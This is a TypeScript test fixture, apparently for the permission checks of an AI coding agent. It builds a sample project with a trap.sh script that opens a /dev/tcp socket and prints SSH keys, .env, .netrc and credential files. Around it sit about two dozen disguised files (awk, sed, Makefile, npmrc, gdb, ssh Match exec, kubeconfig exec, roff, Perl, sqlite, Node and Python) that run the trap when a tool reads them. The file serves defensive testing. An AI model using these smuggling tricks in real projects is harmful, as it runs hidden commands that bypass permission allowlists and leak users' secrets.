/** The project that every case begins with, and the trap that a disguise tries to spring. */

/** Writes in the project, beside it and in the temporary directory, calls the listener and prints the secrets. */
const trap = `#!/bin/bash
[ -n "$PREPARING" ] && exit 0
PATH=/usr/bin:/bin
echo TRAP"-"SPRUNG
echo hit > @PROJECT@/hit
echo hit > @OUT@/hit
echo hit > @TMP@-hit
exec 3<>/dev/tcp/127.0.0.1/@PORT@
cat @HOME@/.ssh/id_rsa @PROJECT@/.env @PROJECT@/private/notes.txt @KEDGE@/credentials.json @HOME@/.netrc
exit 0
`;

/** Printed by the trap: something ran that should not have, even if it was held. */
export const sprung = "TRAP-SPRUNG";

export const pristineProject: { readonly [path: string]: string } = {
  "trap.sh": trap,
  ".gitignore": ".env\nprivate\n",
  ".kedge/config.json": JSON.stringify({
    permission: { bash: { "git log*": "allow", "rg*": "allow", "npm run lint*": "allow", "ls*": "allow" } },
  }),
  "package.json": JSON.stringify({ name: "scratch", version: "1.0.0", scripts: { lint: "echo linted", test: "true" } }),
  "README.md": "# Scratch\n\nA project to look at.\n",
  "notes.md": "# Notes\n\none\ntwo\n",
  "data.json": '{"name":"scratch","list":[1,2,3],"env":{"a":"b"}}\n',
  "table.csv": "id,name,size\n1,one,10\n2,two,20\n3,three,30\n",
  Makefile: "all:\n\t@echo made\n",
  "src/index.ts": "export function add(a: number, b: number): number {\n  // NOTE: check\n  return a + b;\n}\n",
  "src/cart.ts": 'import { add } from "./index.ts";\nexport const total = (xs: number[]) => xs.reduce(add, 0);\n',
  "src/app.py": "import os\n\ndef main():\n    print('hi')\n",
  "test/cart.test.ts": 'import { total } from "../src/cart.ts";\n',
  "docs/guide.md": "# Guide\n\nRead [notes](../notes.md).\n",
  "logs/app.log": "INFO start\nERROR one failed\nWARN slow\nERROR two failed\n",
};

/** Lies in every project beside the rest: what a disguise hands to a program to be run. */
export const hostileFiles: { readonly [path: string]: string } = {
  "prog.awk": 'BEGIN { system("./trap.sh") }\n',
  "prog.sed": "1e ./trap.sh\nw hit\n",
  "list.txt": "--output=hit\n./trap.sh\n",
  "big.txt": "a line of a file that is sorted in pieces\n".repeat(400),
  "hex.txt": "00000000: 6869 740a\n",
  "b64.txt": "aGl0Cg==\n",
  "q.txt": "protocol=https\nhost=example.com\n\n",
  rc: "--pre=./trap.sh\n",
  "evil.js": 'require("node:child_process").execFileSync("./trap.sh", { stdio: "inherit" });\n',
  "evil.cjs": 'require("node:child_process").execFileSync("./trap.sh", { stdio: "inherit" });\n',
  "evil.mjs": 'import { execFileSync } from "node:child_process";\nexecFileSync("./trap.sh", { stdio: "inherit" });\n',
  "evil.npmrc": "script-shell=./trap.sh\n",
  "evil.mk": "X := $(shell ./trap.sh >&2)\nall:\n\t./trap.sh\n",
  "evil.cmake": "execute_process(COMMAND ./trap.sh)\n",
  "evil.gdb": "shell ./trap.sh\n",
  "evil.conf": "DEFINE pager ./trap.sh\n",
  "evil.1": ".TH EVIL 1\n.so @HOME@/.ssh/id_rsa\n.sy ./trap.sh\n.SH NAME\nevil\n",
  "evil.toml": '[alias]\nversion = "./trap.sh"\n',
  "evil.yaml": "apiVersion: v1\nkind: Config\nusers: [{name: x, user: {exec: {command: ./trap.sh}}}]\n",
  "evil/package.json": JSON.stringify({ name: "evil", scripts: { lint: "../trap.sh" } }),
  "ssh.cfg": 'Match exec "./trap.sh"\n  User x\n',
  "trap.pl": "BEGIN { system './trap.sh' }\n",
  "trap.pm": "BEGIN { system './trap.sh' }\n1;\n",
  "trap.sql": ".shell ./trap.sh\n",
  "evil.py": "import os\nos.system('./trap.sh')\n",
};
